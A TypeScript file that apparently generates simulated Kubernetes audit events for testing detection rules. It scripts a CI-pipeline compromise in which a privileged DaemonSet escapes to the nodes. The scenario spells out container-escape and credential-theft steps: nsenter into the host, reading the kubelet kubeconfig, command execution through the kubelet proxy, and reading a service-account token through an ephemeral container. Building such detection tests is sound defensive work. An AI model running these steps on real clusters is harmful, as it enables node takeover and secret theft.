import * as callers from '../callers.ts';
import { NODE_B, NODES, podOf } from '../cluster.ts';
import { spdyExec, webSocketExec } from '../exec.ts';
import { type Caller, k8sEvent, ref } from '../k8s-event.ts';
import { stored } from '../objects.ts';
import { controlledPod } from '../pod-life.ts';
import { container, hostPath, podSpec } from '../pod-specs.ts';
import { suffixOf } from '../random.ts';
import { type Story, tell } from '../story.ts';
import { at, CLUSTER_BORN, SECOND } from '../time.ts';
import { daemonSet, ownerOf, type Template } from '../workloads.ts';
import { background } from './background.ts';

const SYSTEM = 'kube-system';
const NAME = 'eks-node-healthcheck';

/** The pipeline's role; its runner ran a pull request's build script. */
const runner: Caller = {
  ...callers.ci,
  agent: 'kubectl/v1.33.3 (linux/amd64) kubernetes/80779bd',
  reason: 'RBAC: allowed by ClusterRoleBinding "deployers-cluster" of ClusterRole "deployers" to Group "deployers"',
};

const spec = podSpec({
  hostPID: true,
  hostNetwork: true,
  tolerations: [{ operator: 'Exists' }],
  priorityClassName: 'system-node-critical',
  serviceAccountName: 'default',
  volumes: [hostPath('host', '/')],
  containers: [
    container('healthcheck', 'public.ecr.aws/docker/library/alpine:3.22', {
      command: ['/bin/sh', '-c', 'while true; do sleep 3600; done'],
      volumeMounts: [{ name: 'host', mountPath: '/host' }],
      securityContext: { privileged: true },
    }),
  ],
});
const template: Template = { namespace: SYSTEM, app: NAME, spec };

/** Server-side apply creates with PATCH and 201; the request is the manifest as the client wrote it. */
function applied() {
  const when = at('22:14:05');
  const { request, response } = daemonSet(template, {
    at: when,
    created: when,
    manager: 'kubectl',
    operation: 'Apply',
    generation: 1,
  });
  return k8sEvent({
    at: when,
    by: runner,
    verb: 'patch',
    ref: ref('daemonsets', SYSTEM, NAME),
    query: 'fieldManager=kubectl&fieldValidation=Strict&force=false',
    code: 201,
    request,
    response,
  });
}

const pods = NODES.map((node) => podOf(SYSTEM, NAME, node, 'default', suffixOf(`${NAME}/${node.name}`, 5)));
const foothold = pods[1] ?? podOf(SYSTEM, NAME, NODE_B, 'default');
const exec = (when: string, ...command: string[]) =>
  spdyExec({ at: at(when), by: runner, pod: foothold, container: 'healthcheck', command });

/** The node's own identity, used with curl from the node: the kubelet's client certificate or token was read from disk. */
const asNode: Caller = { ...callers.kubelet(NODE_B), agent: 'curl/8.11.1' };
const proxied = podOf('shop', 'checkout', NODES[0]);

function ephemeralContainer() {
  const pod = podOf('argocd', 'argocd-application-controller', NODE_B, 'argocd-application-controller', '0');
  const added = {
    name: 'debugger-x7k2p',
    image: 'public.ecr.aws/docker/library/busybox:1.37',
    command: ['sh'],
    stdin: true,
    tty: true,
    targetContainerName: 'application-controller',
    terminationMessagePath: '/dev/termination-log',
    terminationMessagePolicy: 'File',
    imagePullPolicy: 'IfNotPresent',
    resources: {},
  };
  const meta = {
    kind: 'Pod',
    apiVersion: 'v1',
    name: pod.name,
    namespace: pod.namespace,
    at: at('22:33:40'),
    created: CLUSTER_BORN,
    manager: 'kubectl-debug',
  };
  const before = podSpec({
    containers: [container('application-controller', 'quay.io/argoproj/argocd:v3.1.5')],
    serviceAccountName: 'argocd-application-controller',
  });
  return k8sEvent({
    at: meta.at,
    by: runner,
    verb: 'patch',
    ref: ref('pods', pod.namespace, pod.name, 'ephemeralcontainers'),
    request: { spec: { ephemeralContainers: [added] } },
    response: stored(meta, {
      spec: { ...before, nodeName: pod.node.name, ephemeralContainers: [added] },
      status: { phase: 'Running' },
    }),
  });
}

export const podEscapePrivilegedDaemonset = (): Story =>
  tell(
    'pod-escape-privileged-daemonset',
    'A privileged DaemonSet leaves its pods',
    `A build script in a pull request took the session of the deployment pipeline (role ci-deployer, from the runner's own address 10.0.48.12). It applies a DaemonSet named ${NAME} in kube-system, which gives root on every node; from there the node's own identity and the kubelets' API are used.`,
    background('escape', at('22:05'), 35, 60),
    [
      {
        attack: ['T1613'],
        what: 'The pipeline looks at nodes and DaemonSets of kube-system',
        events: [
          ...k8sEvent({ at: at('22:12:51'), by: runner, verb: 'list', ref: ref('nodes'), query: 'limit=500' }),
          ...k8sEvent({
            at: at('22:12:58'),
            by: runner,
            verb: 'list',
            ref: ref('daemonsets', SYSTEM),
            query: 'limit=500',
          }),
        ],
      },
      {
        attack: ['T1610', 'T1611', 'T1036.005'],
        what: `Server-side apply creates the DaemonSet ${NAME}: privileged, hostPID, hostNetwork, hostPath /`,
        covers: [
          'daemonset-created',
          'privileged-container',
          'host-pid',
          'host-network',
          'hostpath-sensitive',
          'pod-in-system-namespace',
        ],
        events: applied(),
      },
      {
        attack: ['T1611'],
        what: 'The DaemonSet controller makes a pod on each node; the kubelets start them (ordinary machinery, no alert of its own is asked for)',
        events: pods.flatMap((pod, i) =>
          controlledPod(at('22:14:06') + i * 90, template, pod, ownerOf('DaemonSet', SYSTEM, NAME)),
        ),
      },
      {
        attack: ['T1609', 'T1611'],
        what: "Exec into one of the pods: nsenter joins the namespaces of the node's init process",
        covers: ['pod-exec', 'exec-in-kube-system', 'exec-interactive-shell'],
        events: exec('22:18:27', 'nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'sh', '-c', 'id; hostname'),
      },
      {
        attack: ['T1609', 'T1552.001'],
        what: "Exec again: chroot /host reads the kubelet's kubeconfig",
        covers: ['pod-exec', 'exec-in-kube-system', 'exec-sensitive-file', 'exec-interactive-shell'],
        events: exec('22:19:55', 'chroot', '/host', 'cat', '/var/lib/kubelet/kubeconfig'),
      },
      {
        attack: ['T1078.004'],
        what: "The node's identity, now driven by curl, tries to list all secrets; the node authorizer refuses",
        covers: ['node-restriction-violation'],
        events: k8sEvent({
          at: at('22:23:10'),
          by: asNode,
          verb: 'list',
          ref: ref('secrets'),
          code: 403,
          message:
            'secrets is forbidden: User "' +
            asNode.user.username +
            '" cannot list resource "secrets" in API group "" at the cluster scope: can only list/watch objects with a fieldSelector on metadata.name',
        }),
      },
      {
        attack: ['T1613'],
        what: 'Through the API server the kubelet of another node is asked for its pods',
        covers: ['nodes-proxy-access', 'nodes-proxy-exec'],
        events: k8sEvent({
          at: at('22:26:02'),
          by: runner,
          verb: 'get',
          ref: ref('nodes', undefined, NODES[0].name, 'proxy'),
          path: '/pods',
          lasts: 60,
        }),
      },
      {
        attack: ['T1609'],
        what: "A command runs in a checkout pod by way of that kubelet's /run: no pods/exec is ever logged",
        covers: ['nodes-proxy-access', 'nodes-proxy-exec'],
        events: k8sEvent({
          at: at('22:27:48'),
          by: runner,
          verb: 'create',
          ref: ref('nodes', undefined, NODES[0].name, 'proxy'),
          path: `/run/${proxied.namespace}/${proxied.name}/checkout`,
          query: 'cmd=env',
          code: 200,
          lasts: 300,
        }),
      },
      {
        attack: ['T1610', 'T1611'],
        what: "An ephemeral container joins Argo CD's application controller",
        covers: ['ephemeral-container-added'],
        events: ephemeralContainer(),
      },
      {
        attack: ['T1609', 'T1528'],
        what: "Exec into the new container reads the controller's token through /proc",
        covers: ['pod-exec', 'exec-serviceaccount-token-theft'],
        events: webSocketExec({
          at: at('22:34:12'),
          by: runner,
          pod: podOf('argocd', 'argocd-application-controller', NODE_B, 'argocd-application-controller', '0'),
          container: 'debugger-x7k2p',
          command: ['sh', '-c', 'cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token'],
          lasts: 20 * SECOND,
        }),
      },
    ],
    'Every node must be taken as lost: cordon, snapshot, replace. The DaemonSet brings its pods back as long as it exists.',
  );
